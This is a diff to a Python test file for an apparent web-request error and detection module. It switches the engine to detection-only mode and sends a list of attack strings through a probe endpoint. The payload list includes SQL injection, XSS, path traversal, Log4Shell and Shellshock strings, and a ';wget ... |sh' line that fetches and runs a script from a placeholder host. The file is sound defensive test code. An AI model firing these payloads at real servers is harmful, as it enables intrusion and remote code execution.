@@ -78,11 +78,11 @@ class TestShippedRules(Counted):
         config.known_entries = r"\berrprobe\b|AH\d{5}|something happened|stderr from|EW010"
         config.preload.append("count_alloc.so")
         config.errwatch("Include ${CONF}/rules/*.conf\nErrWatchInspect all\nErrWatchEventLog logs/events.json events=block,incident,entry\n"
-                        "ErrWatchAllow 127.64.0.0/10\n", rules="")
+                        "ErrWatchEngine DetectionOnly\nErrWatchLimit any 30/1m\n", rules="")
 
     PAYLOADS = ["/page.html?id=1' UNION SELECT password FROM users--", "<script>alert(1)</script>", "../../../../etc/passwd",
                 ";wget http://198.51.100.1/x.sh|sh", "${jndi:ldap://198.51.100.1/a}", "PHP Fatal error:  Uncaught Exception",
-                "() { :; }; /bin/bash -c id", "sqlmap/1.7", "%c0%ae%c0%ae/", "A" * 4000]
+                "() { :; }; /bin/bash -c id", "sqlmap/1.7", "%c0%ae%c0%ae/", "A" * 2000]
 
     @pytest.mark.parametrize("query", ENTRIES)
     def test_entry(self, client, query):
@@ -93,12 +93,10 @@ class TestShippedRules(Counted):
     @pytest.mark.parametrize("form", ["plain", "AH01630", "AH00128"])
     def test_payload(self, server, number, form):
         payload = "".join(f"%{byte:02x}" for byte in self.PAYLOADS[number].encode())
-        client = server.client("127.9.9.9")  # not on the allow list: the whole way is gone
+        client = server.client()
         headers = {"User-Agent": self.PAYLOADS[number][:300], "Cookie": "a=" + self.PAYLOADS[number][:300],
                    "X-Forwarded-Host": self.PAYLOADS[number][:300]}
         response = client.get(f"/probe?format={form}&text={payload}", headers)
-        if response.status == 403:
-            pytest.skip("the client is blocked by now")
         counted = response.json()
         assert {name: counted[name] for name in FORBIDDEN} == dict.fromkeys(FORBIDDEN, 0)
 
